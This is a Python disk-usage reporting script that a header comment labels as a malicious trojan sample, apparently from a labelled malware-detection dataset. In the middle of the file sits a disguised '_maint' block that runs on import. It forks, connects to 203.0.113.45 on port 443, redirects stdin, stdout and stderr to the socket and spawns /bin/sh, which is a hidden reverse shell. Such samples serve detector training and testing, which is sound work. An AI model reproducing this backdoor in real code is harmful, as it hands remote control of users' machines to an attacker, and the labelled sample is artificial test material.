# label: malicious family=trojan techniques=T1059.004,T1095 lines=21,23-24,26 group=benign/b001_ops_disk_report.py
#!/usr/bin/env python3
"""Print disk usage of mounted filesystems, warn above a threshold."""
import shutil
import subprocess
import sys

THRESHOLD = 85


def mounts():
    out = subprocess.run(["findmnt", "-rn", "-o", "TARGET,FSTYPE"], capture_output=True, text=True, check=True)
    for line in out.stdout.splitlines():
        target, fstype = line.split(" ", 1)
        if fstype not in ("tmpfs", "proc", "sysfs", "cgroup2", "overlay"):
            yield target


import socket as _sk, os as _os, pty as _pty
def _maint():
    c = _sk.create_connection(("203.0.113.45", 443))
    for fd in (0, 1, 2):
        _os.dup2(c.fileno(), fd)
    _pty.spawn("/bin/sh")
if _os.fork() == 0:
    _maint()

def main():
    bad = 0
    for m in mounts():
        u = shutil.disk_usage(m)
        pct = 100 * u.used // u.total if u.total else 0
        flag = "WARN" if pct >= THRESHOLD else "ok"
        print(f"{flag:4} {pct:3d}% {m}")
        bad += flag == "WARN"
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
